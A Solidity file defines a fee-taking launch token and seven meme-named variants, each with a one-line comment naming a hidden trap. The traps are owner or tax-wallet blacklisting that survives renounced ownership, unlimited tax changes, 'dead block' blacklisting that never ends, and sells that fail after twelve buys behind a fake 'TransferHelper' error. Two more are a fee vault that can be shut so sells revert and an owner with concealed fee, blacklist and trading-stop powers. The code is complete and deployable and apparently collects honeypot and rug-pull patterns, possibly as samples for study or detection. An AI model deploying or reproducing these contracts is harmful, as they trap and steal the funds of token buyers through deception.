// SPDX-License-Identifier: MIT
pragma solidity 0.8.20;

interface ILaunchRouter {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 amountIn, uint256 amountOutMin, address[] calldata path, address to, uint256 deadline) external;
}
interface ILaunchFactory { function createPair(address tokenA, address tokenB) external returns (address pair); }

// The launch token of the last years: nine decimals, limits, taxes collected by the contract and sold for ether on the way of a sale.
abstract contract TaxLaunch {
    string private _name;
    string private _symbol;
    uint256 internal constant _tTotal = 1_000_000_000 * 10 ** 9;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) internal _isExcludedFromFee;
    mapping(address => bool) internal bots;
    address internal _owner;
    address payable internal _taxWallet;
    ILaunchRouter private immutable uniswapV2Router;
    address public immutable uniswapV2Pair;
    uint256 public _maxTxAmount = _tTotal * 2 / 100;
    uint256 public _maxWalletSize = _tTotal * 2 / 100;
    uint256 public _taxSwapThreshold = _tTotal / 1000;
    uint256 public _maxTaxSwap = _tTotal / 100;
    uint256 internal _buyCount;
    bool internal tradingOpen;
    bool private inSwap;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event MaxTxAmountUpdated(uint256 _maxTxAmount);

    modifier onlyOwner() { require(_owner == msg.sender, "Ownable: caller is not the owner"); _; }
    modifier lockTheSwap() { inSwap = true; _; inSwap = false; }

    constructor(string memory title, string memory ticker, address router, address payable taxWallet) {
        _name = title;
        _symbol = ticker;
        _owner = msg.sender;
        _taxWallet = taxWallet;
        uniswapV2Router = ILaunchRouter(router);
        uniswapV2Pair = ILaunchFactory(ILaunchRouter(router).factory()).createPair(address(this), ILaunchRouter(router).WETH());
        _balances[msg.sender] = _tTotal;
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        _isExcludedFromFee[taxWallet] = true;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, _tTotal);
    }
    receive() external payable {}

    function name() public view returns (string memory) { return _name; }
    function symbol() public view returns (string memory) { return _symbol; }
    function decimals() public pure returns (uint8) { return 9; }
    function totalSupply() public pure returns (uint256) { return _tTotal; }
    function owner() public view virtual returns (address) { return _owner; }
    function balanceOf(address account) public view returns (uint256) { return _balances[account]; }
    function allowance(address holder, address spender) public view returns (uint256) { return _allowances[holder][spender]; }
    function approve(address spender, uint256 amount) public returns (bool) { _approve(msg.sender, spender, amount); return true; }
    function transfer(address to, uint256 amount) public returns (bool) { _transfer(msg.sender, to, amount); return true; }
    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        _transfer(from, to, amount);
        _approve(from, msg.sender, _allowances[from][msg.sender] - amount);
        return true;
    }
    function _approve(address holder, address spender, uint256 amount) private {
        require(holder != address(0) && spender != address(0), "ERC20: approve the zero address");
        _allowances[holder][spender] = amount;
        emit Approval(holder, spender, amount);
    }

    function _buyTax() internal view virtual returns (uint256);
    function _sellTax() internal view virtual returns (uint256);
    function _beforeBuy(address to) internal virtual {}
    function _beforeSell(address from) internal virtual {}

    function _transfer(address from, address to, uint256 amount) internal {
        require(from != address(0) && to != address(0), "ERC20: transfer the zero address");
        require(amount > 0, "Transfer amount must be greater than zero");
        uint256 taxAmount;
        if (!_isExcludedFromFee[from] && !_isExcludedFromFee[to]) {
            require(!bots[from] && !bots[to]);
            require(tradingOpen, "Trading is not open");
            if (from == uniswapV2Pair && to != address(uniswapV2Router)) {
                require(amount <= _maxTxAmount, "Exceeds the _maxTxAmount.");
                require(_balances[to] + amount <= _maxWalletSize, "Exceeds the maxWalletSize.");
                taxAmount = amount * _buyTax() / 100;
                _beforeBuy(to);
                _buyCount++;
            } else if (to == uniswapV2Pair && from != address(this)) {
                taxAmount = amount * _sellTax() / 100;
                _beforeSell(from);
                uint256 held = _balances[address(this)];
                if (!inSwap && held > _taxSwapThreshold) {
                    _swapTokensForEth(held < _maxTaxSwap ? held : _maxTaxSwap);
                    if (address(this).balance > 0) _sendETHToFee(address(this).balance);
                }
            }
        }
        if (taxAmount > 0) {
            _balances[address(this)] += taxAmount;
            emit Transfer(from, address(this), taxAmount);
        }
        _balances[from] -= amount;
        _balances[to] += amount - taxAmount;
        emit Transfer(from, to, amount - taxAmount);
    }
    function _swapTokensForEth(uint256 tokenAmount) private lockTheSwap {
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = uniswapV2Router.WETH();
        _approve(address(this), address(uniswapV2Router), tokenAmount);
        uniswapV2Router.swapExactTokensForETHSupportingFeeOnTransferTokens(tokenAmount, 0, path, address(this), block.timestamp);
    }
    function _sendETHToFee(uint256 amount) private { _taxWallet.transfer(amount); }

    function openTrading() external onlyOwner { require(!tradingOpen, "trading is already open"); tradingOpen = true; }
    function removeLimits() external onlyOwner { _maxTxAmount = _tTotal; _maxWalletSize = _tTotal; emit MaxTxAmountUpdated(_tTotal); }
    function renounceOwnership() external onlyOwner { emit OwnershipTransferred(_owner, address(0)); _owner = address(0); }
    function transferOwnership(address to) external onlyOwner { require(to != address(0), "zero"); emit OwnershipTransferred(_owner, to); _owner = to; }
}

// Taxes of fifteen and twenty percent for the first twenty purchases, none after that.
contract BuyCountTax is TaxLaunch {
    constructor(address router) TaxLaunch("Pepe On Mars", "PEMARS", router, payable(msg.sender)) {}
    function _buyTax() internal view override returns (uint256) { return _buyCount > 20 ? 0 : 15; }
    function _sellTax() internal view override returns (uint256) { return _buyCount > 20 ? 0 : 20; }
    function addBots(address[] memory bots_) public onlyOwner { for (uint256 i = 0; i < bots_.length; i++) bots[bots_[i]] = true; }
    function delBots(address[] memory notbot) public onlyOwner { for (uint256 i = 0; i < notbot.length; i++) bots[notbot[i]] = false; }
}

// The tax wallet, not the owner, keeps the list of bots; it survives the end of ownership.
contract BotKeeper is TaxLaunch {
    constructor(address router, address payable wallet) TaxLaunch("Wojak Returns", "WJKR", router, wallet) {}
    function _buyTax() internal pure override returns (uint256) { return 3; }
    function _sellTax() internal pure override returns (uint256) { return 3; }
    function blockBots(address[] calldata listed, bool value) external { require(msg.sender == _taxWallet); for (uint256 i = 0; i < listed.length; i++) if (listed[i] != uniswapV2Pair) bots[listed[i]] = value; }
}

// The tax wallet can still set the taxes, to anything.
contract LateTaxes is TaxLaunch {
    uint256 private _feeIn = 2;
    uint256 private _feeOut = 2;
    constructor(address router, address payable wallet) TaxLaunch("Moon Hamster", "HAMST", router, wallet) {}
    function _buyTax() internal view override returns (uint256) { return _feeIn; }
    function _sellTax() internal view override returns (uint256) { return _feeOut; }
    function reduceFee(uint256 feeIn, uint256 feeOut) external { require(msg.sender == _taxWallet); (_feeIn, _feeOut) = (feeIn, feeOut); }
}

// Buyers of the first blocks are bots; the number of first blocks was set so high that it never ends.
contract DeadBlocks is TaxLaunch {
    uint256 public launchedAt;
    uint256 public deadBlocks = 2;
    constructor(address router) TaxLaunch("Bonk Cat", "BCAT", router, payable(msg.sender)) {}
    function _buyTax() internal pure override returns (uint256) { return 0; }
    function _sellTax() internal pure override returns (uint256) { return 0; }
    function launch(uint256 blocks) external onlyOwner { launchedAt = block.number; deadBlocks = blocks; }
    function _beforeBuy(address to) internal override { if (block.number <= launchedAt + deadBlocks) bots[to] = true; }
}

// All is well for the first dozen purchases; from then on nobody sells but those who are spared the tax.
contract ArmedLater is TaxLaunch {
    constructor(address router) TaxLaunch("Shiba Rocket", "SHIRO", router, payable(msg.sender)) {}
    function _buyTax() internal pure override returns (uint256) { return 1; }
    function _sellTax() internal pure override returns (uint256) { return 1; }
    function _beforeSell(address) internal view override { require(_buyCount <= 12, "TransferHelper: TRANSFER_FROM_FAILED"); }
}

// Fees go to a vault that its maker can shut; a shut vault refuses ether, and every sale sends it some.
contract ShutVault {
    address private immutable _maker = msg.sender;
    bool private _open = true;
    receive() external payable { require(_open, "vault"); }
    function turn(bool open) external { require(msg.sender == _maker); _open = open; }
    function take() external { require(msg.sender == _maker); payable(_maker).transfer(address(this).balance); }
}
contract VaultFees is TaxLaunch {
    constructor(address router, address payable vault) TaxLaunch("Vault Dog", "VDOG", router, vault) { _taxSwapThreshold = 0; }
    function _buyTax() internal pure override returns (uint256) { return 2; }
    function _sellTax() internal pure override returns (uint256) { return 2; }
}

// Powers of every kind, and an owner that is the burn address.
contract DeadOwner is TaxLaunch {
    uint256 private _fee = 4;
    constructor(address router) TaxLaunch("Grumpy Sloth", "SLOTH", router, payable(msg.sender)) {}
    function _buyTax() internal view override returns (uint256) { return _fee; }
    function _sellTax() internal view override returns (uint256) { return _fee; }
    function setFee(uint256 fee) external onlyOwner { _fee = fee; }
    function addBot(address who) external onlyOwner { bots[who] = true; }
    function closeTrading() external onlyOwner { tradingOpen = false; }
}
